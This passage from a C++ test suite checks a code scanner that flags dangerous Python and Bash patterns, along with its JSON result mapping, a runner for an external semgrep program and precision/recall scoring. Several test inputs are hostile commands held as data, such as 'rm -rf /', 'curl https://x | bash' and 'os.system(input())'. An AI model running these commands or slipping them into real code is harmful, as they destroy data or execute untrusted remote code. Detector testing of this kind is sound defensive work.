  f = scan(deep_blocks + std::string(300, ' ') + "os.system(c)\n", "python");
  EXPECT_EQ(rule_ids(f), std::set<std::string>{"python.os-command-injection"});
  // Bash: subshells and groups deeper than the limit are read flat; substitutions are skipped.
  f = scan(repeat("( ", 10000) + "rm -rf /" + repeat(" )", 10000), "bash");
  EXPECT_EQ(rule_ids(f), std::set<std::string>{"bash.destructive-rm"});
  f = scan(repeat("{ ", 10000) + "rm -rf /" + repeat("; }", 10000), "bash");
  EXPECT_EQ(rule_ids(f), std::set<std::string>{"bash.destructive-rm"});
  f = scan("echo " + repeat("$(", 10000) + "rm -rf /" + repeat(")", 10000), "bash");
  f = scan(repeat("`echo \\`", 5000), "bash");
  f = scan(repeat("$(( ", 10000), "bash");
  f = scan(repeat("bash -c \"", 2000) + "rm -rf /", "bash");
  f = scan(repeat("<(", 10000), "bash");
  f = scan(repeat("f() { ", 10000), "bash");
}

TEST(SemgrepHostile, UnterminatedConstructs) {
  std::vector<CodeIssueFinding> f;
  f = scan("echo \"unterminated $(curl https://x | bash", "bash");
  EXPECT_EQ(rule_ids(f), std::set<std::string>{"bash.remote-code-execution"});
  f = scan("echo 'never closed\nrm -rf /\n", "bash");
  EXPECT_TRUE(f.empty());  // still inside the quotes
  f = scan("cat <<EOF\nrm -rf /\n", "bash");
  EXPECT_TRUE(f.empty());  // here-document body without its delimiter
  f = scan("x=${y\necho `ls\n$(\n<(\n", "bash");
  f = scan("print('unterminated\neval(data)\n", "python");
  EXPECT_EQ(rule_ids(f), std::set<std::string>{"python.dynamic-code-execution"});
  f = scan("s = \"\"\"never closed\neval(data)\n", "python");
  EXPECT_TRUE(f.empty());
  f = scan(repeat("'", 100001) + repeat("\"", 100001), "python");
  f = scan(repeat("'", 100001) + repeat("\"", 100001), "bash");
}

TEST(SemgrepHostile, BinaryGarbage) {
  std::string junk;
  std::uint32_t state = 12345;
  for (int i = 0; i < 2'000'000; ++i) {
    state = state * 1103515245u + 12345u;
    junk += static_cast<char>(state >> 24);
  }
  EXPECT_NO_THROW(scan(junk, "python"));
  EXPECT_NO_THROW(scan(junk, "bash"));
  EXPECT_NO_THROW(scan(std::string(100000, '\0'), "python"));
  EXPECT_NO_THROW(scan(std::string(100000, '\0'), "bash"));
}

struct ThreadJob {
  std::string code, lang;
  std::vector<CodeIssueFinding> result;
};

void* scan_on_thread(void* arg) {
  auto* job = static_cast<ThreadJob*>(arg);
  job->result = builtin_semgrep_scan(job->code, job->lang);
  return nullptr;
}

TEST(SemgrepHostile, SmallCallerStacks) {
  // The work runs on a helper thread: a caller with a small stack gets the same results.
  const std::vector<std::pair<std::string, std::string>> inputs = {
      {repeat("(", 5000) + "eval(x)" + repeat(")", 5000), "python"},
      {"x = " + repeat("[", 190) + "eval(y)" + repeat("]", 190), "python"},
      {repeat("( ", 3000) + "rm -rf /" + repeat(" )", 3000), "bash"},
  };
  for (const auto& [code, lang] : inputs) {
    ThreadJob job{code, lang, {}};
    pthread_attr_t attr;
    pthread_attr_init(&attr);
    pthread_attr_setstacksize(&attr, 128 * 1024);
    pthread_t t;
    ASSERT_EQ(pthread_create(&t, &attr, &scan_on_thread, &job), 0);
    pthread_join(t, nullptr);
    pthread_attr_destroy(&attr);
    EXPECT_EQ(job.result, scan(code, lang));
    EXPECT_FALSE(job.result.empty());
  }
}

TEST(SemgrepHostile, ConcurrentScansAgree) {
  const std::string py = "import os\nos.system(input())\nimport yaml\nyaml.load(s)\n";
  const std::string sh = "curl -s https://x.example | sh\nchmod 777 /srv\n";
  const auto want_py = scan(py, "python");
  const auto want_sh = scan(sh, "bash");
  std::vector<std::thread> threads;
  std::vector<int> ok(8, 0);
  for (int t = 0; t < 8; ++t) {
    threads.emplace_back([&, t] {
      bool good = true;
      for (int i = 0; i < 20; ++i) {
        good = good && scan(py, "python") == want_py && scan(sh, "bash") == want_sh;
      }
      ok[static_cast<std::size_t>(t)] = good ? 1 : 0;
    });
  }
  for (auto& th : threads) th.join();
  for (int v : ok) EXPECT_EQ(v, 1);
}

// ------------------------------------------------------------------------------------------- JSON mapping

TEST(SemgrepJson, MapsOneResultLikeTheReference) {
  const std::string result = R"J({"check_id": "example.python.eval-call",
    "path": "x.py", "start": {"line": 3, "col": 1, "offset": 20}, "end": {"line": 4, "col": 14, "offset": 40},
    "extra": {"message": "Example message: eval call.", "severity": "WARNING", "lines": "eval(\n  x)",
              "metadata": {"source": "https://rules.example/python.eval", "cwe": ["CWE-95"]}}})J";
  const CodeIssueFinding f = issue_from_semgrep_result(result);
  EXPECT_EQ(f.description,
            "Example message: eval call. (source: https://rules.example/python.eval, lines: eval(\n  x))");
  EXPECT_EQ(f.severity, "warning");
  EXPECT_EQ(f.rule_id, "example.python.eval-call");
  EXPECT_EQ(f.line_start, 3);
  EXPECT_EQ(f.line_end, 4);
}

TEST(SemgrepJson, SeverityMapping) {
  auto sev = [](const std::string& s) {
    return issue_from_semgrep_result(R"J({"check_id":"r","extra":{"message":"m","lines":"l","severity":)J" + s +
                                     R"J(,"metadata":{"source":"s"}}})J")
        .severity;
  };
  EXPECT_EQ(sev("\"ERROR\""), "error");
  EXPECT_EQ(sev("\"WARNING\""), "warning");
  EXPECT_EQ(sev("\"INFO\""), "info");
  EXPECT_EQ(sev("\"INVENTORY\""), "info");
  EXPECT_EQ(sev("\"error\""), "info");
  EXPECT_EQ(sev("null"), "info");
  EXPECT_EQ(sev("3"), "info");
}

TEST(SemgrepJson, MissingFields) {
  const CodeIssueFinding f = issue_from_semgrep_result(R"J({"check_id": "bash.curl-pipe", "extra": {}})J");
  EXPECT_EQ(f.description, " (source: bash.curl-pipe, lines: )");
  EXPECT_EQ(f.severity, "info");
  EXPECT_EQ(f.line_start, 0);
  EXPECT_THROW(issue_from_semgrep_result("[1, 2]"), std::runtime_error);
  EXPECT_THROW(issue_from_semgrep_result("{not json"), std::runtime_error);
}

TEST(SemgrepJson, WholeDocument) {
  const auto issues = issues_from_semgrep_output(
      R"J({"results": [{"check_id": "a", "extra": {"message": "A", "severity": "ERROR", "lines": "x",
          "metadata": {"source": "s"}}}, {"check_id": "b", "extra": {"message": "B", "lines": "y"}}],
          "errors": [], "version": "1.0.0"})J");
  ASSERT_EQ(issues.size(), 2u);
  EXPECT_EQ(issues[0].description, "A (source: s, lines: x)");
  EXPECT_EQ(issues[1].description, "B (source: b, lines: y)");
  EXPECT_THROW(issues_from_semgrep_output(R"J({"errors": []})J"), std::runtime_error);
  EXPECT_THROW(issues_from_semgrep_output("garbage"), std::runtime_error);
}

// ------------------------------------------------------------------------------------------- external runner

// A temporary directory with fake `semgrep` executables, removed at the end of the test.
class SemgrepExternal : public ::testing::Test {
 protected:
  void SetUp() override {
    std::string tmpl = (fs::temp_directory_path() / "semgrep-test-XXXXXX").string();
    ASSERT_NE(::mkdtemp(tmpl.data()), nullptr);
    dir_ = tmpl;
  }
  void TearDown() override {
    std::error_code ec;
    fs::remove_all(dir_, ec);
  }
  // Writes an executable shell script; `body` may use $DIR (this directory).
  std::string script(const std::string& name, const std::string& body) {
    const fs::path p = dir_ / name;
    std::ofstream(p) << "#!/bin/sh\nDIR='" << dir_.string() << "'\n" << body;
    ::chmod(p.c_str(), 0755);
    return p.string();
  }
  std::string read(const std::string& name) const {
    std::ifstream in(dir_ / name);
    std::stringstream ss;
    ss << in.rdbuf();
    return ss.str();
  }
  ExternalSemgrepOptions options(const std::string& exe, int timeout_ms = 20000) const {
    ExternalSemgrepOptions o;
    o.executable = exe;
    o.timeout = std::chrono::milliseconds(timeout_ms);
    return o;
  }
  fs::path dir_;
};

const char* kCannedOutput = R"JSON({"version": "1.50.0", "errors": [], "paths": {"scanned": []}, "results": [
 {"check_id": "example.python.eval-call", "path": "x.py",
  "start": {"line": 1, "col": 1}, "end": {"line": 1, "col": 14},
  "extra": {"message": "Example message A.", "severity": "WARNING", "lines": "eval(input())",
            "metadata": {"source": "https://rules.example/example.python.eval-call"}}},
 {"check_id": "example.python.system-call", "path": "x.py",
  "start": {"line": 2, "col": 1}, "end": {"line": 2, "col": 15},
  "extra": {"message": "Example message B.", "severity": "ERROR",
            "lines": "os.system(cmd)", "metadata": {"source": "https://rules.example/example.python.system-call"}}}]}
)JSON";

TEST_F(SemgrepExternal, MapsCannedOutputAndPassesTheReferenceArguments) {
  const std::string exe = script("semgrep",
                                 "printf '%s\\n' \"$@\" > \"$DIR/args\"\n"
                                 "cp \"$8\" \"$DIR/code\"\n"
                                 "stat -c %a \"$8\" > \"$DIR/mode\"\n"
                                 "cat <<'JSON'\n" +
                                     std::string(kCannedOutput) + "JSON\n");
  const std::string code = "eval(input())\nos.system(cmd)\n";
  const auto issues = external_semgrep_scan(code, "python", options(exe));
  ASSERT_TRUE(issues.has_value());
  ASSERT_EQ(issues->size(), 2u);
  EXPECT_EQ((*issues)[0].description,
            "Example message A. (source: "
            "https://rules.example/example.python.eval-call, lines: eval(input()))");
  EXPECT_EQ((*issues)[0].severity, "warning");
  EXPECT_EQ((*issues)[1].severity, "error");
  EXPECT_EQ((*issues)[1].line_start, 2);
  // argv: scan --json --config <rules> --metrics off --quiet <file.py>; the file held the code, mode 0600.
  std::vector<std::string> args;
  std::stringstream ss(read("args"));
  for (std::string a; std::getline(ss, a);) args.push_back(a);
  ASSERT_EQ(args.size(), 8u);
  EXPECT_EQ(std::vector<std::string>(args.begin(), args.begin() + 7),
            (std::vector<std::string>{"scan", "--json", "--config", "r/python.lang.security", "--metrics", "off",
                                      "--quiet"}));
  EXPECT_EQ(fs::path(args[7]).extension(), ".py");
  EXPECT_EQ(read("code"), code);
  EXPECT_EQ(read("mode"), "600\n");
  EXPECT_FALSE(fs::exists(args[7])) << "temporary file left behind";
}

TEST_F(SemgrepExternal, BashUsesItsConfigAndSuffix) {
  const std::string exe = script("semgrep", "printf '%s\\n' \"$4\" \"$8\" > \"$DIR/args\"\necho '{\"results\": []}'\n");
  ExternalSemgrepOptions o = options(exe);
  o.bash_config = "custom/bash-rules.yml";
  const auto issues = external_semgrep_scan("ls", "bash", o);
  ASSERT_TRUE(issues.has_value());
  EXPECT_TRUE(issues->empty());
  const std::string args = read("args");
  EXPECT_EQ(args.substr(0, args.find('\n')), "custom/bash-rules.yml");
  EXPECT_NE(args.find(".sh\n"), std::string::npos) << args;
}

TEST_F(SemgrepExternal, NonZeroExitWithoutJsonIsAnError) {
  const std::string exe = script("semgrep", "echo 'invalid configuration: r/nope' >&2\nexit 2\n");
  try {
    external_semgrep_scan("x = 1", "python", options(exe));
    FAIL() << "no exception";
  } catch (const std::runtime_error& e) {
    const std::string msg = e.what();
    EXPECT_NE(msg.find("exit status 2"), std::string::npos) << msg;
    EXPECT_NE(msg.find("invalid configuration: r/nope"), std::string::npos) << msg;
  }
}

TEST_F(SemgrepExternal, NonZeroExitWithJsonStillMapsTheResults) {
  const std::string exe = script("semgrep", "cat <<'JSON'\n" + std::string(kCannedOutput) + "JSON\nexit 1\n");
  const auto issues = external_semgrep_scan("eval(input())", "python", options(exe));
  ASSERT_TRUE(issues.has_value());
  EXPECT_EQ(issues->size(), 2u);
}

TEST_F(SemgrepExternal, GarbageOutputIsAnError) {
  const std::string exe = script("semgrep", "echo 'this is not json {'\n");
  try {
    external_semgrep_scan("x = 1", "python", options(exe));
    FAIL() << "no exception";
  } catch (const std::runtime_error& e) {
    EXPECT_NE(std::string(e.what()).find("not valid JSON"), std::string::npos) << e.what();
  }
  const std::string no_results = script("semgrep2", "echo '{\"errors\": []}'\n");
  EXPECT_THROW(external_semgrep_scan("x", "python", options(no_results)), std::runtime_error);
}

TEST_F(SemgrepExternal, TimeoutKillsTheProcessGroup) {
  const std::string exe = script("semgrep", "sleep 30 &\necho $! > \"$DIR/child\"\necho '{\"results\": [' \nwait\n");
  std::string message;
  const double elapsed = seconds([&] {
    try {
      external_semgrep_scan("x = 1", "python", options(exe, 500));
    } catch (const std::runtime_error& e) {
      message = e.what();
    }
  });
  EXPECT_NE(message.find("timed out after 500 ms"), std::string::npos) << message;
  EXPECT_LT(elapsed, 10.0);
  // The background `sleep` of the fake program was killed with its process group (gone or a zombie).
  const std::string child = read("child");
  ASSERT_FALSE(child.empty());
  const std::string stat_path = "/proc/" + child.substr(0, child.find('\n')) + "/stat";
  bool dead = false;
  for (int i = 0; i < 200 && !dead; ++i) {
    std::ifstream st(stat_path);
    std::string pid, comm, state;
    if (!(st >> pid >> comm >> state) || state == "Z")
      dead = true;
    else
      std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  EXPECT_TRUE(dead);
}

TEST_F(SemgrepExternal, MissingExecutableGivesNullopt) {
  EXPECT_FALSE(external_semgrep_scan("x", "python", options("semgrep-does-not-exist-4711")).has_value());
  EXPECT_FALSE(external_semgrep_scan("x", "python", options((dir_ / "nope").string())).has_value());
  const fs::path plain = dir_ / "not-executable";
  std::ofstream(plain) << "#!/bin/sh\necho '{\"results\": []}'\n";
  ::chmod(plain.c_str(), 0644);
  EXPECT_FALSE(external_semgrep_scan("x", "python", options(plain.string())).has_value());
  EXPECT_FALSE(external_semgrep_scan("x", "python", options("")).has_value());
}

TEST_F(SemgrepExternal, FindOnPath) {
  const std::string exe = script("semgrep", "echo '{\"results\": []}'\n");
  EXPECT_EQ(find_on_path(exe), exe);
  ASSERT_TRUE(find_on_path("sh").has_value());
  EXPECT_EQ(fs::path(*find_on_path("sh")).filename(), "sh");
  const char* old = std::getenv("PATH");
  const std::string saved = old != nullptr ? old : "";
  ::setenv("PATH", ("/nonexistent-dir::" + dir_.string()).c_str(), 1);
  EXPECT_EQ(find_on_path("semgrep"), dir_.string() + "/semgrep");
  const auto issues = external_semgrep_scan("x", "python", options("semgrep"));
  ::setenv("PATH", saved.c_str(), 1);
  ASSERT_TRUE(issues.has_value());
  EXPECT_TRUE(issues->empty());
}

// ------------------------------------------------------------------------------------------- data set

struct LabelledCase {
  bool positive;
  std::string lang, code;
  int line;
};

std::vector<LabelledCase> load_cases() {
  std::vector<LabelledCase> cases;
  for (const auto& row : test_data::read_labelled_rows("semgrep_cases.tsv", 3, /*header=*/true)) {
    EXPECT_TRUE(row.columns[0] == "pos" || row.columns[0] == "neg") << "row " << row.line;
    cases.push_back({row.columns[0] == "pos", row.columns[1], row.columns[2], row.line});
  }
  return cases;
}

TEST(SemgrepDataSet, PrecisionAndRecallPerLanguage) {
  const auto cases = load_cases();
  struct Counts {
    int tp = 0, fp = 0, tn = 0, fn = 0;
  };
  std::map<std::string, Counts> by_lang;
  for (const auto& c : cases) {
    const auto findings = scan(c.code, c.lang);
    const bool flagged = !findings.empty();
    Counts& k = by_lang[c.lang];
    if (c.positive)
      (flagged ? k.tp : k.fn)++;
    else
      (flagged ? k.fp : k.tn)++;
    if (flagged != c.positive) {
      std::cout << "  mismatch: row " << c.line << " (" << (c.positive ? "pos" : "neg") << ", " << c.lang << "):\n"
                << c.code << "  findings:\n"
                << describe(findings);
    }
  }
  std::cout << "\n  language   pos  neg   TP   FP   TN   FN  precision  recall\n";
  for (const auto& [lang, k] : by_lang) {
    const double precision = k.tp + k.fp == 0 ? 1.0 : static_cast<double>(k.tp) / (k.tp + k.fp);
    const double recall = k.tp + k.fn == 0 ? 0.0 : static_cast<double>(k.tp) / (k.tp + k.fn);
    std::cout << "  " << std::left << std::setw(9) << lang << std::right << std::setw(5) << k.tp + k.fn << std::setw(5)
              << k.tn + k.fp << std::setw(5) << k.tp << std::setw(5) << k.fp << std::setw(5) << k.tn << std::setw(5)
              << k.fn << std::fixed << std::setprecision(3) << std::setw(11) << precision << std::setw(8) << recall
              << "\n";
    EXPECT_GE(k.tp + k.fn, 30) << lang;
    EXPECT_GE(k.tn + k.fp, 30) << lang;
    EXPECT_GE(precision, 0.9) << lang;
    EXPECT_GE(recall, 0.9) << lang;
  }
  EXPECT_EQ(by_lang.size(), 2u);
  EXPECT_GE(cases.size(), 120u);
}

}  // namespace
}  // namespace inv::detectors
